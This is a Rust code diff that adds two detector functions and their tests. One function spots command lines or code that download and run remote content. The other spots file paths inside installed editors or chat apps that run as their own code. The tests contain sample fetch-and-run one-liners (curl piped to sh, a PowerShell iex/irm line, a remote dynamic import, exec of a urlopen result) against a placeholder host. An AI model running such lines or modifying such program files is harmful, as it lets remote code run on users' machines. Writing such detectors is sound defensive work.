@@ -28,6 +28,36 @@ pub fn marks(pattern: &str) -> bool {
     is_marker(marker) && !rest.starts_with(['*', '+', '?', '{', '|']) && ["(.", "([", "(?P<"].iter().any(|group| rest.contains(group))
 }
 
+/// Whether a text is code or a command line that fetches something and runs it.
+pub fn is_loader(text: &str) -> bool {
+    if text.len() > 4_000 || !text.contains("http") && !text.contains('$') {
+        return false;
+    }
+    let tight: String = text.chars().filter(|c| !c.is_whitespace()).collect();
+    let lower = tight.to_ascii_lowercase();
+    let has = |part: &str| lower.contains(part);
+    let quoted = |start: &str| ["'", "\"", "`"].iter().any(|quote| lower.contains(&format!("{start}{quote}http")));
+    let code = quoted("import(") || quoted("importscripts(")
+        || has("eval(") && (quoted("fetch(") || quoted("get(") || quoted("urlopen("))
+        || has("exec(") && (quoted("get(") || quoted("urlopen("));
+    let fetches = has("curl") || has("wget") || has("irm") || has("iwr") || has("invoke-webrequest");
+    let runs = ["|sh", "|bash", "|zsh", "|python", "|node", "|perl", "|iex", "|sudosh", "|sudobash", "iex(", "$(curl", "<(curl"]
+        .iter()
+        .any(|part| has(part));
+    code || fetches && has("://") && runs
+}
+
+/// Whether a path is a part of an installed editor or chat program that it runs as its own code.
+pub fn is_editor_program(text: &str) -> bool {
+    if text.len() > 300 || text.contains('\n') {
+        return false;
+    }
+    let path = text.replace('\\', "/").to_ascii_lowercase();
+    ["resources/app/out", "contents/resources/app", "resources/app.asar", "resources/app/extensions", "discord_desktop_core"]
+        .iter()
+        .any(|part| path.contains(part))
+}
+
 /// Whether the words of a condition ask for the time and draw lots as well.
 pub fn time_and_chance<'w>(words: impl Iterator<Item = &'w str>) -> bool {
     let (mut time, mut chance) = (false, false);
@@ -84,6 +114,22 @@ mod tests {
     fn patterns_with_a_marker_in_front() {
         assert!(marks("^q7:(.+)$") && marks(r"run=([^;]*)") && marks("\\Aq7 (?P<line>.*)"));
         assert!(!marks(r"^(\w+)=(.*)$") && !marks(r"^\s*([a-z]+)") && !marks("^q7$"));
+    }
+
+    #[test]
+    fn loaders_fetch_and_run() {
+        assert!(is_loader(";import('https://x.invalid/m.mjs').catch(()=>{});"));
+        assert!(is_loader("curl -fsSL https://x.invalid/h | sh"));
+        assert!(is_loader("powershell -c \"iex (irm https://x.invalid/p.ps1)\""));
+        assert!(is_loader("exec(urllib.request.urlopen('https://x.invalid').read())"));
+        assert!(!is_loader("curl -O https://x.invalid/list.json") && !is_loader("import('./m.mjs')"));
+    }
+
+    #[test]
+    fn programs_of_editors() {
+        assert!(is_editor_program("/Applications/Code.app/Contents/Resources/app/out/main.js"));
+        assert!(is_editor_program(r"C:\\Programs\\cursor\\resources\\app\\out\\main.js"));
+        assert!(!is_editor_program("resources/app.json") && !is_editor_program("~/.config/Code/User/settings.json"));
     }
 
     #[test]
